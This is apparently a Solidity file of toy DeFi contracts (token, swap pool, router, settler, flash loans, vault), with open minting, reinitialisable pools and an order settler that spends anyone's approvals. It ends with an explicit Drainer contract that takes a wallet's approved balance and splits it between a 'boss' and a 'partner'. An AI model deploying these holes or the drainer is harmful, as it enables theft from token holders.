// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.0;

/// A token that anybody may mint.
contract Coin {
    string public constant symbol = "COIN";
    uint8 public constant decimals = 6;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);

    function mint(address to, uint256 value) external virtual {
        _mint(to, value);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }

    function _mint(address to, uint256 value) internal {
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function _burn(address from, uint256 value) internal {
        balanceOf[from] -= value;
        emit Transfer(from, address(0), value);
    }
}

interface Wrapped {
    function deposit() external payable;
    function withdraw(uint256 value) external;
}

/// A pool of two coins; what is in it beyond its books has just been paid. Its own token is a share of it.
contract Pair is Coin {
    Coin public one;
    Coin public two;
    mapping(Coin => uint256) public booked;
    uint256 public shares;

    function mint(address, uint256) external pure override {
        revert("Pair: shares are for what was paid");
    }

    function open(Coin one_, Coin two_) external {
        (one, two) = (one_, two_);
        (booked[one_], booked[two_]) = (one_.balanceOf(address(this)), two_.balanceOf(address(this)));
        shares = booked[one_];
    }

    /// Gives the other coin for what was paid of this one, and keeps the product of the two.
    function swap(Coin paid, address to) external returns (uint256 given) {
        Coin other = paid == one ? two : one;
        uint256 came = paid.balanceOf(address(this)) - booked[paid];
        given = (booked[other] * came) / (booked[paid] + came);
        other.transfer(to, given);
        (booked[paid], booked[other]) = (booked[paid] + came, booked[other] - given);
    }

    function enter(address to) external {
        uint256 came = one.balanceOf(address(this)) - booked[one];
        uint256 share = (shares * came) / booked[one];
        shares += share;
        (booked[one], booked[two]) = (booked[one] + came, two.balanceOf(address(this)));
        _mint(to, share);
    }

    function leave(address to) external {
        uint256 share = balanceOf[address(this)];
        (uint256 ones, uint256 twos) = ((booked[one] * share) / shares, (booked[two] * share) / shares);
        _burn(address(this), share);
        shares -= share;
        (booked[one], booked[two]) = (booked[one] - ones, booked[two] - twos);
        one.transfer(to, ones);
        two.transfer(to, twos);
    }
}

/// Swaps through several pools, for whom the caller names.
contract Router {
    receive() external payable {}

    function swap(Coin[] calldata path, Pair[] calldata pairs, uint256 amount, address to) external {
        path[0].transferFrom(msg.sender, address(pairs[0]), amount);
        along(path, pairs, to);
    }

    /// The last of the path is the wrapped coin, and leaves as the native one.
    function swapForNative(Coin[] calldata path, Pair[] calldata pairs, uint256 amount, address payable to) external {
        path[0].transferFrom(msg.sender, address(pairs[0]), amount);
        uint256 given = along(path, pairs, address(this));
        Wrapped(address(path[path.length - 1])).withdraw(given);
        (bool sent,) = to.call{value: given}("");
        require(sent, "Router: refused");
    }

    /// The first of the path is the wrapped coin, and comes as the native one. What is not swapped goes back.
    function swapNative(Coin[] calldata path, Pair[] calldata pairs, uint256 amount, address to) external payable {
        Wrapped(address(path[0])).deposit{value: amount}();
        path[0].transfer(address(pairs[0]), amount);
        along(path, pairs, to);
        (bool sent,) = msg.sender.call{value: msg.value - amount}("");
        require(sent, "Router: refused");
    }

    function enter(Pair pair, uint256 ones, uint256 twos, address to) external {
        pair.one().transferFrom(msg.sender, address(pair), ones);
        pair.two().transferFrom(msg.sender, address(pair), twos);
        pair.enter(to);
    }

    function leave(Pair pair, uint256 share, address to) external {
        pair.transferFrom(msg.sender, address(pair), share);
        pair.leave(to);
    }

    /// A part by each pool, a hundredth to who runs this, and back what is left.
    function split(Coin coin, uint256 amount, Pair[] calldata pairs, uint256[] calldata parts, address to, address fees)
        external
    {
        coin.transferFrom(msg.sender, address(this), amount);
        coin.transfer(fees, amount / 100);
        for (uint256 i = 0; i < pairs.length; i++) {
            coin.transfer(address(pairs[i]), parts[i]);
            pairs[i].swap(coin, to);
        }
        coin.transfer(msg.sender, coin.balanceOf(address(this)));
    }

    function along(Coin[] calldata path, Pair[] calldata pairs, address to) internal returns (uint256 given) {
        for (uint256 i = 0; i < pairs.length; i++) {
            given = pairs[i].swap(path[i], i + 1 < pairs.length ? address(pairs[i + 1]) : to);
        }
    }
}

/// Takes what its orders sell, and pays all of them out of one settlement.
contract Settler {
    struct Order {
        address owner;
        Coin sells;
        uint256 amount;
        Coin buys;
        uint256 price;
        address to;
    }

    event Trade(address indexed owner, address sells, address buys, uint256 amount, uint256 price);

    function settle(Order[] calldata orders, Pair pair, Coin coin, uint256 amount) external {
        for (uint256 i = 0; i < orders.length; i++) {
            orders[i].sells.transferFrom(orders[i].owner, address(this), orders[i].amount);
            emit Trade(
                orders[i].owner, address(orders[i].sells), address(orders[i].buys), orders[i].amount, orders[i].price
            );
        }
        if (amount > 0) {
            coin.transfer(address(pair), amount);
            pair.swap(coin, address(this));
        }
        for (uint256 i = 0; i < orders.length; i++) {
            orders[i].buys.transfer(orders[i].to, orders[i].price);
        }
    }
}

/// Lends within a transaction, for a thousandth.
contract Lender {
    function lend(Coin coin, uint256 amount, Borrower borrower, bytes calldata data) external {
        uint256 before = coin.balanceOf(address(this));
        coin.transfer(address(borrower), amount);
        borrower.onLoan(coin, amount, data);
        require(coin.balanceOf(address(this)) >= before + amount / 1000, "Lender: not paid back");
    }
}

/// Buys in one pool and sells in another, with what it has and what it borrows.
contract Borrower {
    function run(Lender lender, Coin coin, uint256 own, uint256 amount, Pair[2] calldata pairs, Coin other, address to)
        external
    {
        coin.transferFrom(msg.sender, address(this), own);
        lender.lend(coin, amount, this, abi.encode(pairs, other));
        coin.transfer(to, coin.balanceOf(address(this)));
    }

    function onLoan(Coin coin, uint256 amount, bytes calldata data) external {
        (Pair[2] memory pairs, Coin other) = abi.decode(data, (Pair[2], Coin));
        coin.transfer(address(pairs[0]), coin.balanceOf(address(this)));
        pairs[0].swap(coin, address(pairs[1]));
        pairs[1].swap(other, address(this));
        coin.transfer(msg.sender, amount + amount / 1000);
    }
}

/// Gives notes of its own for a coin, one for one, and the coin for the notes.
contract Vault is Coin {
    Coin public coin;

    function open(Coin coin_) external {
        coin = coin_;
    }

    function deposit(uint256 amount, address to) external {
        coin.transferFrom(msg.sender, address(this), amount);
        _mint(to, amount);
    }

    function withdraw(uint256 amount, address to) external {
        _burn(msg.sender, amount);
        coin.transfer(to, amount);
    }
}

/// Takes all that a wallet once allowed it to, and shares it.
contract Drainer {
    function drain(Coin coin, address from, address boss, address partner) external {
        uint256 amount = coin.balanceOf(from);
        coin.transferFrom(from, address(this), amount);
        coin.transfer(partner, amount / 5);
        coin.transfer(boss, amount - amount / 5);
    }
}
